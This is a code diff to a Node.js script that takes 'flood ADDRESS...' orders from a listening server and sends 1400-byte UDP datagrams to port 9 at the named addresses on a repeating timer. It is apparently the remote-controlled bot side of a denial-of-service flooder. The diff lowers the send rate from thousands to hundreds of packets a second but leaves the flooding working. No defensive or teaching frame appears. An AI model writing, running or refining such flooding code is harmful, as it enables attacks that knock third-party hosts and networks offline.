@@ -27,15 +27,15 @@ flooding.on('error', () => {})
 const datagram = Buffer.alloc(1400, 0xa5)
 let timer
 
-/** "flood ADDRESS..." sends datagrams there, some thousands a second, until the next order. */
+/** "flood ADDRESS..." sends datagrams there, some hundreds a second, until the next order. */
 function order(line) {
   const addresses = line.split(' ').slice(1).filter(Boolean)
   clearInterval(timer)
-  if (addresses.length > 0) timer = setInterval(() => addresses.forEach(burst), 5)
+  if (addresses.length > 0) timer = setInterval(() => addresses.forEach(burst), 10)
 }
 
 function burst(address) {
-  for (let i = 0; i < 16; i++) flooding.send(datagram, 9, address, () => {})
+  for (let i = 0; i < 8; i++) flooding.send(datagram, 9, address, () => {})
 }
 
 server.listen(0, '0.0.0.0', () => console.log(server.address().port))
